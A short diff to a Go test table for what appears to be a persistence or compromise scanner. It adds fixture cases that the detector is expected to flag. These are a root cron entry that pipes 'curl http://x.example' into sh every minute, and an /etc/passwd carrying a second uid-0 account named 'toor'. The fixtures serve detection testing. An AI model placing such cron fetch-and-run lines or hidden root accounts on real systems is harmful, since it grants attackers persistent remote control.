@@ -170,6 +170,8 @@ func TestRuntime(t *testing.T) {
 		"a copy with another mode":        {[]member{exe("app", program("app"))}, "", nil, ""},
 		"a program that became setuid":    {[]member{exe("usr/bin/top", program("top")).mode(0o4755)}, "", []string{"high runtime-program /usr/bin/top"}, ""},
 		"a library that everything loads": {[]member{file("lib/libgcwrap.so", program("wrap")), file("etc/ld.so.preload", "/lib/libgcwrap.so\n")}, "", []string{"high runtime-program /lib/libgcwrap.so"}, ""},
+		"clockwork that fetches":          {[]member{file("etc/cron.d/x", "* * * * * root curl http://x.example | sh\n")}, "", []string{"high cron /etc/cron.d/x"}, ""},
+		"a second root":                   {[]member{file("etc/passwd", "root:x:0:0::/:/bin/sh\ntoor:x:0:0::/:/bin/sh\n")}, "", []string{"high uid-0 /etc/passwd"}, ""},
 		"keys and clockwork":              {[]member{file("root/.ssh/authorized_keys", "k"), file("etc/cron.d/x", "c")}, "", []string{"medium cron /etc/cron.d/x", "high authorized-keys /root/.ssh/authorized_keys"}, ""},
 	} {
 		t.Run(name, func(t *testing.T) {
